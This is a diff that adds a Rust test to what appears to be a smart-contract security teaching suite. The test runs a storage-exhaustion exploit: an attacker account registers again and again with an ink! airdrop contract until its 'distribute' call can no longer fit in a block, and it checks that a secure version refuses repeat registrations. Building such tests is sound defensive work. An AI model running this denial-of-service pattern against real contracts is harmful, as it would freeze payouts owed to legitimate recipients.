@@ -0,0 +1,95 @@
+//! Repeat registrations grow distribute's weight past what a block allows
+
+use std::fmt;
+
+use anyhow::{ensure, Result as AnyResult};
+use ink::primitives::AccountId;
+use ink::scale::{Decode, Encode};
+
+use crate::{account_id, attacker, message, owner, Balance, Chain, Constructor, ExploitSpec};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "storage_exhaustion",
+    description: "one account registers repeatedly until distribute cannot fit in a block",
+    must_succeed: || {
+        Box::pin(attack::<
+            _,
+            _,
+            _,
+            storage_exhaustion::storage_exhaustion::Error,
+        >(
+            "storage_exhaustion",
+            storage_exhaustion::storage_exhaustion::AirdropRef::new,
+        ))
+    },
+    must_fail: || {
+        Box::pin(attack::<
+            _,
+            _,
+            _,
+            storage_exhaustion_secure::storage_exhaustion::Error,
+        >(
+            "storage_exhaustion_secure",
+            storage_exhaustion_secure::storage_exhaustion::AirdropRef::new,
+        ))
+    },
+    rejection: "AlreadyRegistered",
+};
+
+const AIRDROP_FUNDS: Balance = 10_000_000_000_000;
+/// Registrations made before each of the two weight measurements
+const SAMPLES: [u64; 2] = [25, 100];
+/// ref_time a normal extrinsic may use on substrate-contracts-node: 75% of
+/// a two-second block
+const BLOCK_REF_TIME: u64 = 1_500_000_000_000;
+/// Registrations an attacker would pay for: a script and an afternoon
+const AFFORDABLE_REGISTRATIONS: u64 = 100_000;
+
+async fn attack<C, A, R, E>(
+    contract: &'static str,
+    new: fn(AccountId) -> Constructor<C, A, R>,
+) -> AnyResult<()>
+where
+    C: Clone,
+    A: Encode + Clone + Send + Sync,
+    E: Decode + Send + fmt::Debug,
+{
+    let mut chain = Chain::new().await?;
+    let airdrop = chain
+        .deploy(contract, &owner(), new(account_id(&owner())))
+        .await?;
+    chain
+        .send(&owner(), &message!(airdrop, "fund"()), AIRDROP_FUNDS)
+        .await?;
+
+    // The secure airdrop refuses the second registration
+    let mut registered = 0;
+    let mut weights = Vec::new();
+    for sample in SAMPLES {
+        while registered < sample {
+            chain
+                .send(
+                    &attacker(),
+                    &message!(airdrop, "register"() -> Result<(), E>),
+                    0,
+                )
+                .await?;
+            registered += 1;
+        }
+        weights.push(
+            chain
+                .gas(&owner(), &message!(airdrop, "distribute"()))
+                .await?,
+        );
+    }
+
+    // distribute pays every entry: extrapolate to where it fills a block
+    let per_entry = weights[1].saturating_sub(weights[0]) / (SAMPLES[1] - SAMPLES[0]);
+    ensure!(per_entry > 0, "distribute's weight does not grow");
+    let needed = BLOCK_REF_TIME.saturating_sub(weights[1]) / per_entry + SAMPLES[1];
+    ensure!(
+        needed <= AFFORDABLE_REGISTRATIONS,
+        "distribute only outgrows a block after {needed} registrations"
+    );
+    Ok(())
+}